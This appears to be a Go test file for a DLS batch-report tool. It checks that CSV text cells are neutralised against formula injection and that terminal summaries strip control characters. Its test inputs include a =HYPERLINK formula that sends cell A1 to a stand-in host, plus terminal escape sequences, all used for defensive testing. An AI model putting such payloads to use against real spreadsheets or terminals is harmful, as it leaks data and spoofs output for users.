package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"dlsbatch/dls"
	"dlsbatch/dls/spec"
)

// hostile are text cells that a spreadsheet would run as a formula, or whose
// leading character it acts on: the OWASP Foundation's "CSV Injection" page
// lists = + - @ tab and carriage return and advises an apostrophe in front
// (common practice). want is the cell as results.csv must hold it.
var hostile = []struct{ raw, want string }{
	{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, `'=HYPERLINK("http://example.invalid/?"&A1,"open")`},
	{"+1", "'+1"},
	{"-2+3", "'-2+3"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\tx", "'\tx"},
	{"\rx", "'\rx"},
	{"'=already quoted", "''=already quoted"}, // doubled, so that the rule can be undone
	{"lot=7", "lot=7"},                        // only the first character counts
	{"LOT-0107", "LOT-0107"},
	{"", ""},
}

// undo reverses neutralise: one leading apostrophe goes when it stands
// before a character that neutralise guards (or another apostrophe).
func undo(s string) string {
	if len(s) >= 2 && s[0] == '\'' && (strings.IndexByte(formulaStart, s[1]) >= 0 || s[1] == '\'') {
		return s[1:]
	}
	return s
}

func TestResultsCSVNeutralisesTextCells(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.raw, func(t *testing.T) {
			r := &dls.Result{
				Identity: dls.Identity{File: h.raw, Sample: h.raw, Run: h.raw, Status: dls.StatusWarn, Message: h.raw},
				Conditions: dls.Conditions{HasConditions: true, TemperatureC: -5, Solvent: h.raw, ViscosityMPaS: 1.5,
					RefractiveIndex: 1.33, WavelengthNm: 633, AngleDeg: 173, QPerM: 2.6e7, ViscositySource: h.raw, IndexSource: h.raw},
				Cumulants:   dls.Cumulants{HasCumulants: true, ZAvgNm: 100, RangeShiftPct: -1.25, Method: "nonlinear", Order: 2},
				Corrections: dls.Corrections{Correction: h.raw},
				Assumptions: []string{h.raw},
			}
			var b bytes.Buffer
			if err := WriteCSV(&b, []*dls.Result{r}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, n := range rows[0] {
				col[n] = i
			}
			for _, c := range []string{"file", "sample", "run", "message", "solvent", "viscosity_source", "refractive_index_source", "assumptions", "correction"} {
				if got := rows[1][col[c]]; got != h.want {
					t.Errorf("%s cell %q, want %q", c, got, h.want)
				}
			}
			// Numbers the tool writes stay numbers, minus sign and all
			// (fixed formats of columns.go: 2 decimals for both).
			for c, want := range map[string]string{"temperature_c": "-5.00", "range_shift_pct": "-1.25"} {
				if got := rows[1][col[c]]; got != want {
					t.Errorf("%s = %q, want the number %q", c, got, want)
				}
			}
			// results.json keeps the raw text.
			var j bytes.Buffer
			if err := WriteJSON(&j, &Document{Results: []*dls.Result{r}}); err != nil {
				t.Fatal(err)
			}
			var back Document
			if err := json.Unmarshal(j.Bytes(), &back); err != nil {
				t.Fatal(err)
			}
			if got := back.Results[0]; got.File != h.raw || got.Sample != h.raw || got.Message != h.raw || got.Solvent != h.raw {
				t.Errorf("results.json changed the text: file %q sample %q message %q solvent %q", got.File, got.Sample, got.Message, got.Solvent)
			}
		})
	}
}

func TestSamplesCSVNeutralisesTextCells(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.raw, func(t *testing.T) {
			rs := []*dls.Result{{Identity: dls.Identity{File: h.raw, Run: "r1"}}}
			s := &dls.Sample{Name: h.raw, Lot: h.raw, Product: h.raw, Role: dls.Role(h.raw), Group: h.raw, Runs: []int{0}, Outliers: []int{0},
				NRuns: 1, NUsed: 1, ZAvgMeanNm: 100, TemperaturesC: []float64{-5, 20},
				Verdict: &dls.Verdict{Outcome: dls.VerdictFail, Reason: h.raw}}
			var b bytes.Buffer
			if err := WriteSamplesCSV(&b, []*dls.Sample{s}, dls.Briefs(rs)); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, n := range rows[0] {
				col[n] = i
			}
			for _, c := range []string{"sample", "lot", "product", "role", "group", "verdict_reason"} {
				if got := rows[1][col[c]]; got != h.want {
					t.Errorf("%s cell %q, want %q", c, got, h.want)
				}
			}
			if got, want := rows[1][col["outliers"]], neutralise(h.raw+"[r1]"); got != want {
				t.Errorf("outliers cell %q, want %q", got, want)
			}
			// The temperatures are numbers of the tool (2 decimals).
			if got := rows[1][col["temperature_c"]]; got != "-5.00 20.00" {
				t.Errorf("temperature_c = %q, want -5.00 20.00", got)
			}
		})
	}
}

func TestNeutraliseUndo(t *testing.T) {
	for _, h := range hostile {
		if got := neutralise(h.raw); got != h.want {
			t.Errorf("neutralise(%q) = %q, want %q", h.raw, got, h.want)
		}
		if got := undo(neutralise(h.raw)); got != h.raw {
			t.Errorf("undo(neutralise(%q)) = %q", h.raw, got)
		}
	}
}

// The summary goes to a terminal: escape sequences and control characters
// of names, file names and messages must not reach it (ECMA-48 sequences
// written out by hand), and a name cannot break a table row.
func TestWriteSummaryStripsControls(t *testing.T) {
	evil := "x\x1b]0;owned\x07\x1b[2J\r\ny\u009b1m\u202e"
	rs := []*dls.Result{{Identity: dls.Identity{File: "a" + evil + ".csv", Run: "r" + evil, Status: dls.StatusError,
		Message: "a" + evil + ".csv:3: cell " + evil}}}
	smp := []*dls.Sample{{Name: "s" + evil, Lot: "l" + evil, NRuns: 1, Verdict: &dls.Verdict{Outcome: dls.VerdictFail, Reason: "why" + evil}}}
	var b bytes.Buffer
	if err := WriteSummary(&b, dls.Briefs(rs), smp, spec.Batch{Specified: true, Reason: "bad" + evil}, ProblemsOf(rs, SummaryProblems)); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, r := range out {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0x202e) {
			t.Fatalf("summary holds %U:\n%q", r, out)
		}
	}
	for _, want := range []string{"FAIL  sx  y: whyx  y", "BATCH INVALID: badx  y", "error ax  y.csv[rx  y]:3: cell x  y"} {
		if !strings.Contains(out, want) {
			t.Errorf("summary lacks %q:\n%s", want, out)
		}
	}
	// One line per sample row: header, the row, a blank line, the counts,
	// the batch line, the FAIL line and the problem line.
	if n := strings.Count(out, "\n"); n != 7 {
		t.Errorf("%d lines, want 7:\n%s", n, out)
	}
}
